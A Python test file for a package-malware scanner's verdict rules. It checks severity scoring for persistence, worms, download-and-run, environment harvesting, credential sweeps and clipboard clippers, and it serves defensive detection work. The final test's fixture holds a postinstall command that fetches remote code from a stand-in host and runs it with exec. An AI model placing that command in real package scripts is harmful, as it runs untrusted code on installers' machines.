"""Rules added from the held-out stand-ins: persistence, worms, download-and-run, environment
harvests, credential sweeps and clipboard clippers (scanner/verdict/rules.py)."""

from __future__ import annotations

from scanner.behaviour.model import Capability as C
from scanner.behaviour.model import Zone
from scanner.model import Severity
from scanner.verdict import PackageMetadata, Verdict, judge
from tests.verdict.profiles import profile

PLAIN = profile({"index.js": []})
NO_HISTORY = PackageMetadata(version_count=2)
HISTORY = PackageMetadata(version_count=80)


def _rules(verdict: Verdict) -> set[str]:
    return {r.rule for r in verdict.reasons}


def test_code_that_sets_itself_up_to_run_at_login_is_high_in_an_update() -> None:
    new = profile({"index.js": [], "lib/cache.js": [(C.FILE_WRITE, 17, "persistence")]})
    verdict = judge("pkg", "4.2.0", "4.2.1", PLAIN, new)
    assert verdict.severity is Severity.HIGH
    assert "persistence" in _rules(verdict)
    assert "run again at login or on a schedule" in verdict.summary
    # The same start-up item the old version already installed is not new behaviour.
    assert judge("pkg", "4.2.0", "4.2.1", new, new).severity is Severity.INFO


def test_persistence_in_a_new_package_weighs_by_its_history_but_a_worm_never_passes() -> None:
    startup = profile({"index.js": [(C.FILE_WRITE, 3, "persistence")]})
    assert judge("x", None, "1.0.0", None, startup, metadata=NO_HISTORY).severity is Severity.HIGH
    # A process manager with a long history installs start-up items by design.
    assert judge("pm", None, "5.0.0", None, startup, metadata=HISTORY).severity is Severity.MEDIUM
    worm = profile({"index.js": [(C.FILE_WRITE, 47, "install-hook-injection")]})
    assert judge("x", None, "1.0.0", None, worm, metadata=HISTORY).severity is Severity.HIGH


def test_ordinary_writes_are_still_not_weighed() -> None:
    new = profile({"index.js": [(C.FILE_WRITE, 3, "temp"), (C.FILE_WRITE, 4, "package")]})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, new).severity is Severity.INFO


def test_an_update_that_fetches_and_loads_code_in_one_file_is_high() -> None:
    new = profile(
        {"index.js": [], "config.js": [(C.NETWORK, 12), (C.COMPUTED_REQUIRE, 16, "require")]},
        {"config.js": Zone.OTHER},
    )
    verdict = judge("pkg", "1.2.5", "1.3.0", PLAIN, new)
    assert verdict.severity is Severity.HIGH
    assert "download-and-run" in _rules(verdict)
    # Apart, in two files, each is an ordinary feature: first network access of a minor release.
    apart = profile(
        {"index.js": [], "net.js": [(C.NETWORK, 2)], "plugins.js": [(C.COMPUTED_REQUIRE, 5)]},
        {"net.js": Zone.OTHER, "plugins.js": Zone.OTHER},
    )
    assert judge("pkg", "1.2.5", "1.3.0", PLAIN, apart).severity is Severity.MEDIUM


def test_a_package_with_no_history_that_fetches_and_loads_code_is_an_unvouched_loader() -> None:
    new = profile({"index.js": [(C.NETWORK, 12), (C.COMPUTED_REQUIRE, 16, "require")]})
    verdict = judge("x", None, "1.0.0", None, new, metadata=NO_HISTORY)
    assert verdict.severity is Severity.HIGH
    assert "unvouched-loader" in _rules(verdict)
    assert judge("x", None, "9.0.0", None, new, metadata=HISTORY).severity < Severity.HIGH


def test_the_whole_environment_collected_beside_the_network_is_a_harvest() -> None:
    new = profile({"esm/index.mjs": [(C.ENV_ALL, 14, "enumerated"), (C.NETWORK, 16)]})
    update = judge("pkg", "2.2.0", "2.3.0", PLAIN, new)
    assert update.severity is Severity.HIGH
    assert "exfiltration" in _rules(update)
    assert judge("x", None, "1.0.0", None, new, metadata=NO_HISTORY).severity is Severity.HIGH
    assert judge("x", None, "3.0.0", None, new, metadata=HISTORY).severity is Severity.MEDIUM
    # Passed on to a child process, the environment is forwarded, not collected.
    forwarded = profile({"index.js": [(C.ENV_ALL, 14, "passed"), (C.NETWORK, 16)]})
    assert judge("pkg", "2.2.0", "2.2.1", PLAIN, forwarded).severity is not Severity.CRITICAL
    assert "exfiltration" not in _rules(judge("pkg", "2.2.0", "2.2.1", PLAIN, forwarded))


def test_three_credential_stores_read_by_one_file_is_a_sweep() -> None:
    sweep = profile(
        {
            "dist/agent.js": [
                (C.CREDENTIAL_ACCESS, 35, "aws"),
                (C.CREDENTIAL_ACCESS, 37, "kube"),
                (C.CREDENTIAL_ACCESS, 38, "docker"),
            ]
        }
    )
    verdict = judge("pkg", "1.4.3", "2.0.0", PLAIN, sweep)
    assert verdict.severity is Severity.HIGH
    assert "credential-sweep" in _rules(verdict)
    # A cloud tool reading its own configuration (and ssh) is worth a look, not a stop.
    own = profile({"index.js": [(C.CREDENTIAL_ACCESS, 3, "aws"), (C.CREDENTIAL_ACCESS, 5, "ssh")]})
    assert judge("pkg", "1.4.3", "2.0.0", PLAIN, own).severity is Severity.MEDIUM


def test_a_clipboard_clipper_in_a_new_package_is_high_but_a_fetch_wrapper_is_not() -> None:
    clipper = profile({"index.js": [(C.WALLET_HOOK, 9, "clipboard-swap")]})
    assert judge("x", None, "1.0.0", None, clipper, metadata=HISTORY).severity is Severity.HIGH
    wrapper = profile({"index.js": [(C.WALLET_HOOK, 9, "fetch-override")]})
    assert judge("x", None, "1.0.0", None, wrapper, metadata=HISTORY).severity is Severity.MEDIUM


def test_inline_python_that_fetches_code_in_an_install_script_is_a_download() -> None:
    command = "python3 -c \"import urllib.request as u;exec(u.urlopen('http://x.invalid').read())\""
    new = profile({"index.js": []}, scripts={"postinstall": command})
    verdict = judge("pkg", "0.9.3", "0.9.4", PLAIN, new)
    assert verdict.severity is Severity.HIGH
    assert "install-inline-download" in _rules(verdict)
    harmless = profile({"index.js": []}, scripts={"postinstall": "python3 -c 'import sys'"})
    assert judge("pkg", "0.9.3", "0.9.4", PLAIN, harmless).severity is Severity.MEDIUM
